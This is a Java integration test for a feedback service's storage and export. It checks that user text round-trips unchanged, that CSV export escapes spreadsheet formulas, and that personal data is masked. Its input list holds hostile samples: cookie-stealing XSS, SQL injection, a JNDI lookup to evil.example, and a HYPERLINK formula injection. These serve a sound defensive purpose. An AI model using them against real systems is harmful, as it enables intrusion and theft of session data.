package io.rapport.feedback.review;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.startsWith;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.quarkus.test.junit.QuarkusTest;
import io.rapport.feedback.testing.ServiceTest;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Whatever people write is kept as they wrote it, and is text and nothing else. */
@QuarkusTest
class HostileTextTest extends ServiceTest {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final List<String> TEXTS = List.of(
            "<script>alert(document.cookie)</script>",
            "<img src=x onerror=alert(1)> &lt;b&gt; &amp;amp;",
            "'); drop table feedback; --",
            "${jndi:ldap://evil.example/a} {{7*7}} #{1} %s %n",
            "abc\u202Edcba\u202C \u2066isolated\u2069 \u200F",
            "👩‍👩‍👧‍👦 🇮🇪 👍🏽 z̷̢a̸l̶g̵o̴",
            "=HYPERLINK(\"http://evil.example\",\"click\")",
            "+1",
            "-1",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "one,two;\"three\"\r\nfour\nfive",
            "long ".repeat(19_999) + "<b>");

    @Test
    void textsAreReturnedAsTheyWereWritten() throws Exception {
        stored();
        for (int i = 0; i < TEXTS.size(); i++) {
            feedback("site", "t" + i).body("text", equalTo(TEXTS.get(i)));
        }
        JsonNode exported = JSON.readTree(call().get("/v1/feedback/export?format=json")
                .then()
                .statusCode(200)
                .header("Content-Disposition", "attachment; filename=\"feedback.json\"")
                .extract()
                .asString());
        assertThat(exported.findValuesAsText("text")).containsExactlyInAnyOrderElementsOf(TEXTS);
    }

    @Test
    void aSpreadsheetTakesNoTextForAFormula() throws Exception {
        stored();
        String csv = call().get("/v1/feedback/export?format=csv")
                .then()
                .statusCode(200)
                .contentType(startsWith("text/csv"))
                .extract()
                .asString();
        assertThat(csv)
                .startsWith("id,source,kind,occurredAt,text,")
                .contains(",\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"click\"\")\",")
                .contains(",'+1,", ",'-1,", ",'@SUM(A1),", ",'\t=1,", ",\"'\r=1\",")
                .contains("\"one,two;\"\"three\"\"\r\nfour\nfive\"")
                .doesNotContain(",=", ",\"=", ",+", ",@");
    }

    @Test
    void anExportHasEveryPageAndTheConditionsOfTheList() throws Exception {
        StringBuilder batch = new StringBuilder("[");
        for (int i = 0; i < 450; i++) {
            batch.append(i == 0 ? "" : ",").append(review("n" + i, i % 3 == 0 ? "queue" : "bread"));
        }
        accepts(batch + "]");
        String csv = call().get("/v1/feedback/export").asString();
        assertThat(csv.split("\r\n")).hasSize(451).doesNotHaveDuplicates();
        assertThat(JSON.readTree(
                        call().get("/v1/feedback/export?format=json&q=queue").asString()))
                .hasSize(150);
        call().get("/v1/feedback/export?format=xml").then().statusCode(400);
        call().get("/v1/feedback/export?limit=3").then().statusCode(400);
        assertThat(as(known(randomBusiness()))
                        .get("/v1/feedback/export")
                        .asString()
                        .split("\r\n"))
                .hasSize(1);
    }

    @Test
    void personalDataIsMaskedWhereTheBusinessWantsIt() {
        String text =
                "Mail ann.o'neil+x@mail.example.ie or call +353 87 123 4567, (087) 123-4567; card 4111 1111 1111 1111,"
                        + " order 1234567890123456 of 01/02/2026 12:30, 12.50";
        accepts(json("before", text));
        feedback("site", "before").body("text", equalTo(text));
        masking(2, true);
        accepts(json("after", text));
        feedback("site", "after")
                .body(
                        "text",
                        equalTo("Mail [e-mail] or call [phone], [phone]; card [card],"
                                + " order 1234567890123456 of 01/02/2026 12:30, 12.50"));
        String survey = call().body("{\"name\": \"N\", \"type\": \"nps\", \"question\": \"Would you?\"}")
                .post("/v1/surveys")
                .path("id");
        call().body("{\"id\": \"a\", \"score\": 9, \"comment\": \"Write to ann@mail.example\"}")
                .post("/v1/surveys/" + survey + "/responses")
                .then()
                .statusCode(202);
        feedback("survey:" + survey, "a").body("text", equalTo("Write to [e-mail]"));
        masking(3, false);
        accepts(json("again", text));
        feedback("site", "again").body("text", equalTo(text));
    }

    private void masking(int version, boolean masks) {
        given().header("Authorization", gateway())
                .contentType("application/json")
                .body("{\"version\": " + version + ", \"name\": \"Crumb\", \"timeZone\": \"Europe/Dublin\","
                        + " \"privacy\": {\"maskPersonalData\": " + masks + "}}")
                .put("/internal/v1/businesses/" + business + "/settings")
                .then()
                .statusCode(204);
    }

    private void stored() {
        for (int i = 0; i < TEXTS.size(); i++) {
            accepts(json("t" + i, TEXTS.get(i)));
        }
    }

    private static String json(String id, String text) {
        ObjectNode review = JSON.createObjectNode();
        review.put("id", id).put("source", "site").put("kind", "review").put("text", text);
        return review.put("occurredAt", "2026-03-01T10:00:00Z").toString();
    }
}
